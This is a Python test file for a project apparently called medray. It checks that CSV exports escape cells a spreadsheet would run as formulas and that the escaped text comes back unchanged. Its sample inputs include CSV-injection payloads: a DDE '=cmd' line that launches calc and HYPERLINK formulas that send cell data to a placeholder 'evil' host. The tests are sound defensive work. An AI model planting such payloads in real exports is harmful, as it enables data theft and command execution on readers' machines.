"""Cells that a spreadsheet would run as formulas: they are harmless in what medray exports."""

import csv
import io
import random
from pathlib import Path

import pyarrow as pa

from medray.batch.output import encode
from medray.data import corrections
from medray.evaluation import leaderboard_files
from medray.reports import review
from medray.text import csv_text
from medray.types import Example

FORMULAS = [
    '=HYPERLINK("http://evil","x")',
    "+1-1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    " =1",
    "＝1",
    "=cmd|' /C calc'!A1",
    "- item",
    "'=1",
    "''@x",
]
HARMLESS = ["-0.5", "+3", "-1e-05", "carcinoma", "'tis", "", "a=b", "5-HT", "'-0.5"]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def is_run(cell: str) -> bool:
    """As a spreadsheet decides it: a number is none."""
    try:
        float(cell)
    except ValueError:
        return bool(cell.strip()) and cell.strip()[0] in "=+-@＝＋－＠"
    return False


def test_no_cell_of_a_table_for_people_is_a_formula() -> None:
    table = pa.table(
        {
            "id": FORMULAS,
            "label": FORMULAS,
            "labels": [[text] for text in FORMULAS],
            "confidence": [-0.5] * len(FORMULAS),
        }
    )
    cells_of_text = cells(encode(table, "csv").decode())
    assert not any(is_run(cell) for row in cells_of_text for cell in row)
    assert {row[3] for row in cells_of_text[1:]} == {"-0.5"}  # a number stays one
    assert [csv_text.restore_cell(row[0]) for row in cells_of_text[1:]] == FORMULAS
    board = cells(
        leaderboard_files.to_csv(
            [
                {"name": text, f"settings.{text}": text, text: -1.5, "error": None}
                for text in FORMULAS
            ]
        )
    )
    assert not any(is_run(cell) for row in board for cell in row)
    assert {cell for row in board[1:] for cell in row if cell.endswith("1.5")} == {"-1.5"}


def test_every_text_comes_back_as_it_was() -> None:
    rng = random.Random(3)
    texts = (
        FORMULAS
        + HARMLESS
        + ["".join(rng.choices("'=+-@ \t1.5ea＝\n", k=rng.randint(0, 6))) for _ in range(5000)]
    )
    cells_of_text = [
        cells(csv_text.write_table(["a", "b"], [{"a": text, "b": 1}]))[1][0] for text in texts
    ]
    assert [csv_text.restore_cell(cell) for cell in cells_of_text] == texts
    assert cells_of_text[len(FORMULAS) : len(FORMULAS) + len(HARMLESS)] == HARMLESS
    assert not any(is_run(cell) for cell in cells_of_text)


def test_a_row_that_looks_like_a_formula_is_exported_harmless_and_corrected_by_its_own_id(
    tmp_path: Path,
) -> None:
    path = tmp_path / "review.csv"
    ids, label = ["=cmd()", "-2+3", "'=x", "r1"], "=HYPERLINK(1)"
    review.export(
        [
            review.ReviewRow(id=row_id, given=(label, "b"), text='=HYPERLINK("http://evil?x="&A1)')
            for row_id in ids
        ],
        path,
    )
    cells_of_export = cells(path.read_text())
    assert not any(is_run(cell) for row in cells_of_export for cell in row)
    for delimiter in ",;":
        with path.open(
            "w", newline="", encoding="utf-8-sig"
        ) as file:  # as a spreadsheet saves what somebody filled in
            csv.writer(file, delimiter=delimiter).writerows(
                [cells_of_export[0], *([row[0], row[2], *row[2:]] for row in cells_of_export[1:])]
            )
        result_of_corrections = corrections.apply(
            [Example(row_id, "a", ("b",)) for row_id in ids], path, (label,)
        )
        assert [example.labels for example in result_of_corrections.examples] == [(label, "b")] * 4


# Settings
